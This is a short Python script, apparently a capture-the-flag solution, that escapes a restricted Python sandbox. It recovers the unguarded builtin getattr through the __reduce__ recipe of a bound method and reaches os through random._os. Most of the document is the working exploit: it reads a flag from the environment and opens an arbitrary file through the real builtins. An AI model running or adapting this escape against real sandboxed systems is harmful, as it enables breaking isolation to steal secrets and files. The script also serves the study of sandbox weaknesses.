# A method says how to pickle it, and gives getattr away: a guarded getattr is of no use if any
# method has the original.
import heapq
import random
from operator import methodcaller

# To pickle "".join is to write down: call getattr on "" and "join". The recipe is a tuple, and
# its first item is the function itself, not its name.
ask = methodcaller("__reduce__")

# CPython takes that getattr from the builtins of the function that is running. So have a function
# of the library run meanwhile: nsmallest drives map, map calls ask, and nothing else in between
# is written in Python.
recipe = heapq.nsmallest(1, map(ask, ["".join]))[0]
real_getattr = recipe[0]

# The guarded getattr refuses names that begin with an underscore. The original knows no rules.
os = real_getattr(random, "_os")
print(os.environ["MUSEUM_FLAG"])

builtins = real_getattr(os, "sys").modules["builtins"]
print(builtins.open(outside["file"]).read())
